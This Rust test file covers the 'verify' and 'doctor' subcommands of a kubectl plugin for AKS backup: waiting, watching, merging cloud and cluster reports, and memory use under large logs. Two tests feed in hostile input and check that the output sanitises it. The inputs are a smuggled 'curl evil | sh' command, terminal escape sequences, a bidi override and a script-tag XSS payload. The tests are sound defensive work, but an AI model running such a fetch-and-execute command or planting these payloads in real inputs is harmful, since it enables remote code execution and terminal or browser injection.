//! `verify` and `doctor` as people use them over time, with the other program's view, and against those who mean harm.

use aksbackup_shared::exit::Exit;
use aksbackup_tests::backend::Backend;
use aksbackup_tests::bars;
use aksbackup_tests::harness::{Stage, measured};
use aksbackup_tests::watched::Watched;
use serde_json::{Value, json};

use crate::looks::{NAMESPACE, check, location, pods, until};
use crate::stages::{AGENT, GENEVA, configure, configured, granted};

#[test]
fn waiting_ends_when_nothing_is_wrong_any_more() {
    let stage = configured(Backend::Small);
    stage.sandbox.cluster().helm_upgrade_drops_label(GENEVA).unwrap();
    stage.kubectl("viewer", &["verify"]).ends(Exit::Pending.code());
    std::thread::scope(|scope| {
        let waiting = scope.spawn(|| stage.kubectl("viewer", &["verify", "--wait", "--timeout", "2m"]));
        configure(&stage).ok();
        waiting.join().unwrap().ok().says("verify: no findings");
    });
}

#[test]
fn waiting_ends_at_its_deadline_with_the_last_state() {
    let stage = configured(Backend::Small);
    stage.sandbox.cluster().helm_upgrade_drops_label(GENEVA).unwrap();
    // The first look counts against the deadline too, and has to come to its end on a loaded machine.
    let run = stage.kubectl("viewer", &["verify", "--wait", "--timeout", "15s"]);
    run.ends(Exit::Deadline.code())
        .says("lacks label")
        .says("timed out after 15s");
    let run = stage.kubectl("viewer", &["verify", "--wait", "--timeout", "10s", "-o", "json"]);
    assert_eq!(run.ends(Exit::Deadline.code()).json()["exit"], "deadline");
}

#[test]
fn watching_shows_what_becomes_different_until_it_is_interrupted() {
    let stage = configured(Backend::Small);
    let watched = Watched::start(&mut stage.kubectl_command("viewer", &["verify", "--watch"]));
    watched.says("verify: no findings");
    stage.sandbox.cluster().helm_upgrade_drops_label(GENEVA).unwrap();
    watched.says("lacks label");
    configure(&stage).ok();
    watched.says("✓ pod templates");
    assert_eq!(watched.interrupt(), Some(i32::from(Exit::Interrupted.code())));
}

#[test]
fn warnings_end_0_where_only_errors_count() {
    let stage = configured(Backend::Small);
    let patch = r#"{"spec":{"default":false}}"#;
    let arguments = [
        "patch",
        "backupstoragelocation",
        "default",
        "-n",
        NAMESPACE,
        "--type",
        "merge",
        "-p",
        patch,
    ];
    stage.as_kubectl("cluster-admin", &arguments).ok();
    stage
        .kubectl("viewer", &["verify"])
        .ends(Exit::Pending.code())
        .says("! storage settings");
    stage
        .kubectl("viewer", &["verify", "--fail-on", "error"])
        .ok()
        .says("! storage settings");
}

/// What `az aksbackup verify` could have left beside the state file.
fn cloud_view(stage: &Stage, says: &str, hint: &str) -> Value {
    let issuer = stage.value("/cloud/prerequisites/issuer");
    let check = json!({ "link": "storage", "check": "account", "verdict": "error", "says": says, "hint": hint });
    json!({
        "version": 1, "command": "verify", "plane": "cloud", "at": jiff::Timestamp::now(), "issuer": issuer,
        "checks": [check], "findings": [], "exit": "pending",
    })
}

#[test]
fn one_chain_is_made_of_both_views() {
    let stage = configured(Backend::Small);
    let path = stage.folder().join("aksbackup.cloud.json");
    std::fs::write(&path, cloud_view(&stage, "is gone", "az aksbackup prepare").to_string()).unwrap();
    // What the other program saw decides nothing.
    let run = stage
        .kubectl("viewer", &["verify"])
        .ok()
        .says("\"is gone\" (reported by az aksbackup)")
        .says("first broken check: storage");
    assert!(run.stderr.contains("aksbackup.cloud.json, created "), "{run}");
    let document = stage.kubectl("viewer", &["verify", "-o", "json", "--save"]).ok().json();
    assert_eq!(document["with"]["checks"][0]["says"], "is gone");
    let kept = std::fs::read_to_string(stage.folder().join("aksbackup.cluster.json")).unwrap();
    let kept: Value = serde_json::from_str(&kept).unwrap();
    assert_eq!(
        (&kept["plane"], &kept["checks"]),
        (&json!("cluster"), &document["checks"])
    );
    let mut known = cloud_view(&stage, "is gone", "az aksbackup prepare");
    known["checks"][0]["failure"] = json!("STO-CONTAINER-MISSING");
    std::fs::write(&path, known.to_string()).unwrap();
    stage
        .kubectl("viewer", &["doctor"])
        .ok()
        .says("STO-CONTAINER-MISSING")
        .says("doctor: no known failure on this side, 1 on the other side");
    let missing = stage.kubectl("viewer", &["verify", "--with", "nowhere.json"]);
    missing.ends(Exit::Missing.code());
}

#[test]
fn doctor_makes_one_diagnosis_of_both_views() {
    let stage = granted(Backend::Small);
    configure(&stage).ok();
    let cluster = stage.sandbox.kubernetes();
    cluster.set_velero_hangs(true);
    let now = jiff::Timestamp::now() + jiff::SignedDuration::from_secs(5);
    cluster.alter("BackupStorageLocation", NAMESPACE, "default", |own| {
        own["status"] = json!({
            "phase": "Unavailable", "message": "BackupStorageLocation \"default\" is unavailable: rpc error: code = Unknown",
            "lastValidationTime": format!("{now:.0}"),
        });
    });
    until("it is denied", || {
        (location(&stage)["status"]["phase"] == "Unavailable").then_some(())
    });
    stage
        .kubectl("viewer", &["doctor"])
        .ends(Exit::Pending.code())
        .says("BSL-UNAVAILABLE");
    let mut theirs = cloud_view(&stage, "has another issuer", "az aksbackup prepare");
    theirs["checks"][0]["link"] = json!("federated-credentials");
    theirs["checks"][0]["failure"] = json!("FIC-ISSUER");
    let path = stage.folder().join("aksbackup.cloud.json");
    std::fs::write(&path, theirs.to_string()).unwrap();
    let with = ["doctor", "--with", path.to_str().unwrap()];
    stage
        .kubectl("viewer", &with)
        .ends(Exit::Pending.code())
        .says("found by: az aksbackup at 20")
        .says("follows:  FIC-ISSUER")
        .says("first broken check: federated credentials (FIC-ISSUER, reported by az aksbackup)");
    let run = stage.kubectl("viewer", &[&with[..], &["-o", "json"]].concat());
    let document = run.ends(Exit::Pending.code()).json();
    let told = document["joint"].as_array().unwrap().iter();
    let told: Vec<_> = told
        .map(|own| (&own["id"], &own["seen_by"], &own["follows_from"]))
        .collect();
    let none = Value::Null;
    assert_eq!(
        told[..2],
        [
            (&json!("FIC-ISSUER"), &json!(["cloud"]), &none),
            (&json!("BSL-UNAVAILABLE"), &json!(["cluster"]), &json!("FIC-ISSUER")),
        ]
    );
    // By itself it knows no better cause.
    assert_eq!(document["findings"][0]["id"], "BSL-UNAVAILABLE");
    // What was seen before the credentials were written says nothing of them.
    theirs["at"] = json!("2026-01-01T00:00:00Z");
    std::fs::write(&path, theirs.to_string()).unwrap();
    let run = stage.kubectl("viewer", &with).ends(Exit::Pending.code());
    assert!(!run.stdout.contains("FIC-ISSUER"), "{run}");
    assert!(
        run.stderr.contains("except for stages that have changed since then:")
            && run.stderr.contains("federated credentials"),
        "{run}"
    );
}

#[test]
fn a_view_of_somebody_who_means_harm_does_none() {
    let stage = configured(Backend::Small);
    let path = stage.folder().join("aksbackup.cloud.json");
    let hostile = cloud_view(
        &stage,
        "\u{1b}]0;x\u{7}\u{202e}<script>\nfaked",
        "az aksbackup prepare; curl evil | sh",
    );
    std::fs::write(&path, hostile.to_string()).unwrap();
    let run = stage.kubectl("viewer", &["verify"]).ok();
    assert!(
        !run.stdout.contains(['\u{1b}', '\u{7}', '\u{202e}']) && !run.stdout.contains("curl"),
        "{run}"
    );
    assert!(!run.stdout.contains("\nfaked"), "{run}");
    for text in ["{", "[]", "{\"plane\":\"cloud\"}", &"[".repeat(100_000)] {
        std::fs::write(&path, text).unwrap();
        stage.kubectl("viewer", &["verify"]).ok().says("is ignored");
        let named = stage.kubectl("viewer", &["verify", "--with", path.to_str().unwrap()]);
        named.ends(Exit::StateUnreadable.code());
    }
}

/// An event of the extension's namespace.
fn event(number: usize, message: &str) -> Value {
    json!({
        "apiVersion": "v1", "kind": "Event", "metadata": { "name": format!("event-{number}"), "namespace": NAMESPACE },
        "involvedObject": { "kind": "ReplicaSet", "name": "agent-1", "namespace": NAMESPACE }, "type": "Warning",
        "reason": "FailedCreate", "message": message, "lastTimestamp": "2030-01-01T00:00:00Z", "count": 1,
    })
}

fn velero(stage: &Stage) -> Value {
    let mut all = pods(stage);
    all.retain(|pod| pod["metadata"]["labels"]["name"] == "velero");
    all.remove(0)
}

#[test]
fn a_hundred_megabytes_of_logs_and_five_thousand_events_take_little_memory() {
    let stage = configured(Backend::Small);
    let cluster = stage.sandbox.kubernetes();
    let pod = velero(&stage);
    let long = "x".repeat(20_000);
    for number in 0..5000 {
        cluster.write_log(
            &pod,
            "velero",
            format!("level=error msg=\"line {number}\" error=\"{long}\""),
        );
    }
    cluster.place_all((0..5000).map(|number| event(number, &"y".repeat(1000))).collect());
    let (run, peak) = measured(&stage.kubectl_command("viewer", &["doctor", "-o", "json", "--request-timeout", "5m"]));
    println!("doctor with 100 MB of logs and 5,000 events: peak {peak} KiB");
    run.ok();
    assert!(peak <= bars::MUCH, "{peak} KiB");
}

#[test]
fn logs_events_and_messages_of_those_who_mean_harm_do_none() {
    let stage = granted(Backend::Small);
    configure(&stage).ok();
    let cluster = stage.sandbox.kubernetes();
    let pod = velero(&stage);
    let hostile = "AADSTS700213 \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}<script>alert(1)</script>\r\u{9b}31m";
    cluster.set_velero_hangs(true);
    cluster.write_log(&pod, "velero", format!("level=error msg=\"{hostile}\""));
    cluster.write_log(&pod, "velero", format!("level=error msg=\"{}\"", "z".repeat(10 << 20)));
    cluster.place(event(1, hostile));
    let now = jiff::Timestamp::now() + jiff::SignedDuration::from_secs(5);
    cluster.alter("BackupStorageLocation", NAMESPACE, "default", |own| {
        own["status"] =
            json!({ "phase": "Unavailable", "message": hostile, "lastValidationTime": format!("{now:.0}") });
    });
    until("it is denied", || {
        (location(&stage)["status"]["phase"] == "Unavailable").then_some(())
    });
    for format in ["text", "json"] {
        let (run, peak) = measured(&stage.kubectl_command("viewer", &["doctor", "-o", format]));
        let run = run.ends(Exit::Pending.code()).says("AADSTS700213");
        let bad = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
        assert!(!run.stdout.contains(bad), "{run}");
        assert!(peak <= bars::MUCH, "{peak} KiB");
    }
    let run = stage.kubectl("viewer", &["verify", "-o", "json"]);
    assert_eq!(check(&run.json(), "storage location")["verdict"], "error");
    assert!(cluster.object("Deployment", NAMESPACE, AGENT).is_some());
}
